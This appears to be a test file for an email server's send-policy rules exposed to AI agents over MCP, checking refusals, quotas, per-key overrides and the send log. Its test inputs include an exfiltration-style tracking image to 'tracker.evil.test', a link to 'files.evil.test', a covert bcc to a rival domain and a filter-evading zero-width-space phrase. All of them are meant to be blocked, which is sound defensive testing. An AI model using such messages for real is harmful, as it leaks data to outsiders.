// Send policies through /mcp (decision send-policy), on the sandbox and every store: each rule refuses
// with send_policy_refused naming it, nothing is sent, no send quota or idempotency key is taken, a
// key's own policy replaces its workspace's, a change takes effect at the next call, and every
// decision is in the send log.
import { afterEach, describe, expect, it } from "vitest";
import {
  callTool,
  sendPolicy as policy,
  sendsToday,
  sentSubjects,
  type ToolAnswer as Result,
} from "../../test/support/sandbox-tool-calls.js";
import { availableStores, startTestServer, type TestServer } from "../../test/support/test-server.js";
import { hashApiKey } from "../auth/api-keys.js";
import { sandboxAddress } from "../providers/sandbox/address.js";
import type { SendPolicy } from "../send-policy/send-policy.js";

let server: TestServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function setWorkspacePolicy(s: TestServer, fields: Partial<SendPolicy> | null): Promise<void> {
  await s.store.updateWorkspaceLimits(s.workspaceId, { sendPolicy: fields === null ? null : policy(fields) });
}

async function setKeyPolicy(s: TestServer, key: string, fields: Partial<SendPolicy> | null): Promise<void> {
  const record = await s.store.findApiKeyByHash(hashApiKey(key));
  await s.store.setApiKeySendPolicy(record!.id, fields === null ? null : policy(fields));
}

describe.each(availableStores())("send policies through /mcp, on the %s store", (store) => {
  it("refuses a blocked recipient by name, sends nothing, takes no quota and leaves the idempotency_key free", async () => {
    server = await startTestServer({ store });
    const s = server;
    await setWorkspacePolicy(s, { blockRecipients: ["@rival.example"] });
    const args = {
      to: ["alice@example.com"],
      bcc: ["spy@eu.rival.example"],
      subject: "Q3 figures",
      body: "Attached.",
      idempotency_key: "q3-figures",
    };
    const refused = await callTool(s, "send_email", args);
    expect(refused).toMatchObject({
      isError: true,
      errorCode: "send_policy_refused",
      rule: "recipient_blocked",
      detail: "spy@eu.rival.example is blocked (rival.example)",
      content: [
        {
          type: "text",
          text: "The send policy refused this message (recipient_blocked): spy@eu.rival.example is blocked (rival.example). Nothing was sent.",
        },
      ],
    });
    expect(await sentSubjects(s)).not.toContain("Q3 figures");
    expect(await sendsToday(s)).toBe(0);

    await setWorkspacePolicy(s, null);
    expect(await callTool(s, "send_email", args)).toMatchObject({
      delivery_status: "accepted",
      idempotent_replay: false,
    });
    expect(await sentSubjects(s)).toContain("Q3 figures");
  });

  it("names each rule a message breaks", async () => {
    server = await startTestServer({ store });
    const s = server;
    const own = sandboxAddress(s.inbox.id);
    const cases: [Partial<SendPolicy>, Result, string][] = [
      [{ allowRecipients: ["example.com"] }, { to: ["bob@example.org"] }, "recipient_not_allowed"],
      [{ ownDomainsOnly: true }, { to: [own, "bob@example.org"] }, "outside_own_domain"],
      [{ maxRecipients: 2 }, { to: ["a@example.com", "b@example.com"], cc: ["c@example.com"] }, "too_many_recipients"],
      [
        { noAttachments: true },
        { to: [own], attachments: [{ filename: "a.txt", mime_type: "text/plain", data: "aGk=" }] },
        "attachments_not_allowed",
      ],
      [
        { noExternalLinks: true },
        { to: [own], html_body: '<p>Hi</p><img src="https://tracker.evil.test/p.gif?d=secret">' },
        "external_link",
      ],
      [
        { blockedPhrases: ["wire transfer"] },
        { to: [own], body: "Please make the WIRE\u200B  transfer today." },
        "blocked_phrase",
      ],
    ];
    for (const [rules, message, rule] of cases) {
      await setWorkspacePolicy(s, rules);
      const refused = await callTool(s, "send_email", { subject: `Breaks ${rule}`, body: "x", ...message });
      expect(refused, rule).toMatchObject({ isError: true, errorCode: "send_policy_refused", rule });
    }
    expect((await sentSubjects(s)).filter((subject) => subject.startsWith("Breaks"))).toEqual([]);
    expect(await sendsToday(s)).toBe(0);
  });

  it("judges a reply by the recipients taken from the original, and a draft as stored", async () => {
    server = await startTestServer({ store });
    const s = server;
    const inbox = await callTool(s, "list_inbox", { limit: 1 });
    const [original] = inbox.messages as { id: string; from: { address: string } }[];
    await setWorkspacePolicy(s, { blockRecipients: [original!.from.address] });
    const reply = await callTool(s, "reply_to_email", { message_id: original!.id, body: "Sure." });
    expect(reply).toMatchObject({ errorCode: "send_policy_refused", rule: "recipient_blocked" });

    await setWorkspacePolicy(s, { noExternalLinks: true });
    const draft = await callTool(s, "create_draft", {
      to: [sandboxAddress(s.inbox.id)],
      subject: "Draft with a link",
      body: "Details at http:files.evil.test/q3",
    });
    const sent = await callTool(s, "send_draft", { draft_id: draft.draft_id });
    expect(sent).toMatchObject({
      errorCode: "send_policy_refused",
      rule: "external_link",
      detail: expect.stringContaining("files.evil.test"),
    });
    const drafts = await callTool(s, "list_inbox", { folder: "DRAFTS" });
    expect((drafts.messages as { subject: string }[]).map((m) => m.subject)).toContain("Draft with a link");
  });

  it("a key's own policy replaces its workspace's whole, and a change is seen at the next call", async () => {
    server = await startTestServer({ store });
    const s = server;
    await setWorkspacePolicy(s, { blockRecipients: ["example.com"] });
    const send = () => callTool(s, "send_email", { to: ["bob@example.com"], subject: "Hello", body: "Hi" });
    expect(await send()).toMatchObject({ errorCode: "send_policy_refused", rule: "recipient_blocked" });
    await setKeyPolicy(s, s.keys.full, { maxRecipients: 5 });
    expect(await send()).toMatchObject({ delivery_status: "accepted" });
    await setKeyPolicy(s, s.keys.full, { maxRecipients: 5, blockedPhrases: ["hi"] });
    expect(await send()).toMatchObject({ errorCode: "send_policy_refused", rule: "blocked_phrase" });
    await setKeyPolicy(s, s.keys.full, null);
    expect(await send()).toMatchObject({ rule: "recipient_blocked" });
  });

  it("counts sends per hour per key, tells when the hour ends, and a refused send takes no place", async () => {
    server = await startTestServer({ store });
    const s = server;
    await setWorkspacePolicy(s, { sendsPerHour: 2, blockedPhrases: ["forbidden"] });
    const send = (body: string) => callTool(s, "send_email", { to: ["bob@example.com"], subject: "Hourly", body });
    expect(await send("forbidden words")).toMatchObject({ rule: "blocked_phrase" });
    expect(await send("one")).toMatchObject({ delivery_status: "accepted" });
    expect(await send("two")).toMatchObject({ delivery_status: "accepted" });
    const third = await send("three");
    expect(third).toMatchObject({ errorCode: "send_policy_refused", rule: "sends_per_hour" });
    expect(third.retryAfter).toBeGreaterThanOrEqual(1);
    expect(third.retryAfter).toBeLessThanOrEqual(3600);
    expect(await sendsToday(s)).toBe(2);
  });

  it("writes every decision to the send log: who, which inbox, to whom, the rule, the outcome; never the content", async () => {
    server = await startTestServer({ store });
    const s = server;
    await setWorkspacePolicy(s, { blockRecipients: ["blocked.example"] });
    const sent = await callTool(s, "send_email", {
      to: ["bob@example.com"],
      cc: ["Carol <carol@example.com>"],
      subject: "Secret plan",
      body: "b",
    });
    await callTool(s, "send_email", { to: ["eve@blocked.example"], subject: "Secret plan", body: "b" });
    const log = await s.store.listSendDecisions(s.workspaceId, { limit: 10 });
    const key = await s.store.findApiKeyByHash(hashApiKey(s.keys.full));
    expect(log.map(({ seq: _seq, at: _at, ...entry }) => entry)).toEqual([
      {
        workspaceId: s.workspaceId,
        keyId: key!.id,
        inboxId: s.inbox.id,
        tool: "send_email",
        decision: "refused",
        rule: "recipient_blocked",
        recipients: ["eve@blocked.example"],
        outcome: "send_policy_refused",
        messageId: null,
      },
      {
        workspaceId: s.workspaceId,
        keyId: key!.id,
        inboxId: s.inbox.id,
        tool: "send_email",
        decision: "allowed",
        rule: null,
        recipients: ["bob@example.com", "carol@example.com"],
        outcome: "accepted",
        messageId: sent.message_id,
      },
    ]);
    expect(JSON.stringify(log)).not.toContain("Secret plan");
  });
});
